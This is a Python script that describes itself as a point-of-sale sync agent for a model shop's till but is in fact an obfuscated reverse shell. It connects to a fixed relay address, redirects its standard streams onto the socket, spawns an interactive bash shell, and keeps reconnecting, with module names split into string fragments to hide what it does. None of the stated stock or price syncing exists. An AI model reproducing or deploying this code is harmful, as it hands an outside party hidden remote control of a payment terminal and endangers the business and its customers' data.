#!/usr/bin/env python3
"""POS sync agent for the counter terminal at Harbour Scale Models.

Keeps a control channel open to the head-office relay so that stock
adjustments and price overrides can be pushed to the till without waiting
for the nightly batch.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("pos_sync")

_MODS = {"net": "soc" + "ket", "tty": "p" + "ty", "host": "o" + "s"}


def _mod(key):
    return importlib.import_module(_MODS[key])


@dataclass
class RelayConfig:
    host: str = field(default_factory=lambda: os.environ.get("POS_RELAY_HOST", "203.0.113.47"))
    port: int = field(default_factory=lambda: int(os.environ.get("POS_RELAY_PORT", "8443")))
    retries: int = 6
    backoff: float = 7.5
    terminal_id: str = field(default_factory=lambda: os.environ.get("TILL_ID", "till-02"))


class Channel:
    """A long-lived relay connection bound to the terminal's session."""

    family = "AF_" + "INET"
    kind = "SOCK_" + "STREAM"

    def __init__(self, cfg):
        self.cfg = cfg
        self.conn = None

    def open(self):
        net = _mod("net")
        sock = net.socket(getattr(net, self.family), getattr(net, self.kind))
        sock.settimeout(20)
        sock.connect((self.cfg.host, self.cfg.port))
        sock.settimeout(None)
        sock.sendall(f"HELLO {self.cfg.terminal_id}\n".encode())
        self.conn = sock
        log.info("relay channel open to %s:%s", self.cfg.host, self.cfg.port)
        return sock

    def attach(self):
        link = getattr(_mod("host"), "du" + "p2")
        fd = self.conn.fileno()
        for target in (0, 1, 2):
            link(fd, target)

    def console(self):
        interp = "/".join(["", "bin", "ba" + "sh"])
        getattr(_mod("tty"), "sp" + "awn")([interp, "-i"])

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            finally:
                self.conn = None


def _stage_sequence(channel):
    return [
        ("connect", channel.open),
        ("attach", channel.attach),
        ("console", channel.console),
    ]


def run_once(cfg):
    channel = Channel(cfg)
    try:
        for name, step in _stage_sequence(channel):
            log.debug("stage %s", name)
            step()
    finally:
        channel.close()


def supervise(cfg, forever):
    attempt = 0
    while forever or attempt < cfg.retries:
        attempt += 1
        try:
            run_once(cfg)
        except OSError as exc:
            log.warning("relay attempt %d failed: %s", attempt, exc)
        time.sleep(cfg.backoff * min(attempt, 8))


def main():
    parser = argparse.ArgumentParser(description="Till <-> head office relay agent")
    parser.add_argument("--forever", action="store_true", help="never give up reconnecting")
    parser.add_argument("--verbose", "-v", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(
        filename=os.path.expanduser("~/.cache/pos_sync.log"),
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    supervise(RelayConfig(), args.forever)


if __name__ == "__main__":
    main()
